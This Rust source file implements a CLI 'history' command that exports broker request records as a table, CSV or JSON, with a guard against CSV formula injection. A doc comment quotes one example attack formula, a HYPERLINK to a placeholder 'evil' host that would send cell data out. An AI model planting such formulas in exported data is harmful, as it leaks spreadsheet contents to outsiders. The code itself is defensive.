//! `corral history`: request metadata from the store, as a table, CSV or JSON.
//!
//! Reads the SQLite file directly (read-only; WAL lets it run beside a live broker), or with
//! `store.url` the fleet's PostgreSQL: every broker's requests, or one's with `--broker`. CSV cells
//! that a spreadsheet would run as a formula are prefixed with `'` (model names, paths and
//! error texts come from clients). When `--limit` cut the list short, stderr says so with the
//! full count, whatever the format, so stdout stays clean JSON or CSV.

use std::process::ExitCode;

use corral::store::{page_requests, Query, RequestRow};

use super::args::HistoryArgs;

#[derive(Clone, Copy, clap::ValueEnum)]
pub enum Format {
    Table,
    Csv,
    Json,
}

pub async fn run(a: HistoryArgs) -> ExitCode {
    let Some(since_ms) = corral::admin::parse_since(&a.since) else {
        eprintln!("error: --since {} is not like 30s, 15m, 1h or 7d", a.since);
        return ExitCode::from(2);
    };
    let at = match super::records_at(a.db, a.config.as_deref()) {
        Ok(at) => at,
        Err(code) => return code,
    };
    let query = Query {
        since_ms: Some(since_ms),
        node: a.node,
        category: a.category,
        status: a.status,
        broker: a.broker,
        limit: Some(a.limit),
        ..Query::default()
    };
    print(&at, query, a.format).await
}

/// The rows `query` selects from the store at `at`, printed in `format`.
async fn print(at: &super::Records, query: Query, format: Format) -> ExitCode {
    let pool = match super::open_records(at).await {
        Ok(p) => p,
        Err(e) => {
            eprintln!("error: {e}");
            return ExitCode::from(1);
        }
    };
    let page = match page_requests(&pool, &query).await {
        Ok(p) => p,
        Err(e) => {
            eprintln!("error: {e}");
            return ExitCode::from(1);
        }
    };
    let rows = page.rows;
    match format {
        Format::Json => match serde_json::to_string_pretty(&rows) {
            Ok(s) => println!("{s}"),
            Err(e) => {
                eprintln!("error: {e}");
                return ExitCode::from(1);
            }
        },
        Format::Csv => {
            if let Err(e) = write_csv(&rows, std::io::stdout()) {
                eprintln!("error: {e}");
                return ExitCode::from(1);
            }
        }
        Format::Table => table(&rows),
    }
    if page.more {
        eprintln!("{}", cut_note(rows.len(), page.total));
    }
    ExitCode::SUCCESS
}

/// What stderr says when `--limit` stopped the list: "showing the newest 100 of 2,345; --limit N
/// for more".
fn cut_note(shown: usize, total: i64) -> String {
    format!("showing the newest {} of {}; --limit N for more", grouped(shown as i64), grouped(total))
}

/// `2345` as `2,345`.
fn grouped(n: i64) -> String {
    let digits = n.unsigned_abs().to_string();
    let mut out = String::new();
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i) % 3 == 0 {
            out.push(',');
        }
        out.push(c);
    }
    if n < 0 {
        out.insert(0, '-');
    }
    out
}

/// The columns of `corral history --format csv`: `RequestRow`'s fields, in order (a test keeps
/// the two alike).
const COLUMNS: &[&str] = &[
    "id",
    "started_at",
    "finished_at",
    "endpoint",
    "category",
    "origin",
    "model",
    "node",
    "attempts",
    "fallback",
    "status",
    "http_status",
    "error_code",
    "queued_ms",
    "ttfb_ms",
    "total_ms",
    "prompt_tokens",
    "completion_tokens",
    "streamed",
    "interrupted",
    "client_request_id",
    "answered_model",
    "failed_attempts",
    "continued_by",
    "generation_us",
    "node_done_ms",
    "estimate_ms",
    "broker",
];

/// The rows as CSV, a header first, every cell made safe for a spreadsheet ([`cell`]). A list
/// (the failed attempts) is one cell of compact JSON.
fn write_csv(rows: &[RequestRow], out: impl std::io::Write) -> Result<(), csv::Error> {
    let mut w = csv::Writer::from_writer(out);
    w.write_record(COLUMNS)?;
    for r in rows {
        let v = serde_json::to_value(r).unwrap_or_default();
        let text = |c: &str| match &v[c] {
            serde_json::Value::Null => String::new(),
            serde_json::Value::String(s) => s.clone(),
            serde_json::Value::Array(a) if a.is_empty() => String::new(),
            other => other.to_string(),
        };
        w.write_record(COLUMNS.iter().map(|c| cell(&text(c)).into_owned()))?;
    }
    w.flush()?;
    Ok(())
}

/// A cell a spreadsheet shows as text: one that starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return would be read as a formula (a model name such as
/// `=HYPERLINK("http://evil/?"&A1)`), so it gets a leading `'`, OWASP's advice for CSV
/// injection. Numbers (`-1`) are left as they are.
pub fn cell(s: &str) -> std::borrow::Cow<'_, str> {
    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
    if risky {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

fn table(rows: &[RequestRow]) {
    println!(
        "{:<20} {:<14} {:<10} {:<20} {:<10} {:<12} {:>4} {:>8} {:>8} {:>7} {:<16}",
        "STARTED (UTC)",
        "ENDPOINT",
        "CATEGORY",
        "MODEL",
        "NODE",
        "STATUS",
        "TRY",
        "TTFB ms",
        "TOTAL ms",
        "TOKENS",
        "ERROR"
    );
    for r in rows {
        let started = time::OffsetDateTime::from_unix_timestamp_nanos(i128::from(r.started_at) * 1_000_000)
            .ok()
            .and_then(|t| {
                t.format(&time::macros::format_description!("[year]-[month]-[day] [hour]:[minute]:[second]")).ok()
            })
            .unwrap_or_default();
        let opt = |v: Option<i64>| v.map(|n| n.to_string()).unwrap_or_else(|| "-".into());
        println!(
            "{:<20} {:<14} {:<10} {:<20} {:<10} {:<12} {:>4} {:>8} {:>8} {:>7} {:<16}",
            started,
            truncate(&r.endpoint, 14),
            truncate(&r.category, 10),
            truncate(&r.model, 20),
            truncate(r.node.as_deref().unwrap_or("-"), 10),
            r.status,
            r.attempts,
            opt(r.ttfb_ms),
            opt(r.total_ms),
            opt(r.completion_tokens),
            r.error_code.as_deref().unwrap_or(""),
        );
    }
    println!("{} request(s)", rows.len());
}

fn truncate(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        s.to_string()
    } else {
        s.chars().take(n - 1).chain(std::iter::once('…')).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_cut_note_names_both_counts_readably() {
        assert_eq!(cut_note(100, 2345), "showing the newest 100 of 2,345; --limit N for more");
        assert_eq!(grouped(1_000_000), "1,000,000");
        assert_eq!(grouped(999), "999");
    }

    #[test]
    fn the_csv_columns_are_the_records_fields() {
        let v = serde_json::to_value(RequestRow::default()).expect("row");
        let mut fields: Vec<&str> = v.as_object().expect("object").keys().map(String::as_str).collect();
        let mut columns = COLUMNS.to_vec();
        fields.sort_unstable();
        columns.sort_unstable();
        assert_eq!(columns, fields, "a field added to RequestRow needs its CSV column");
    }
}
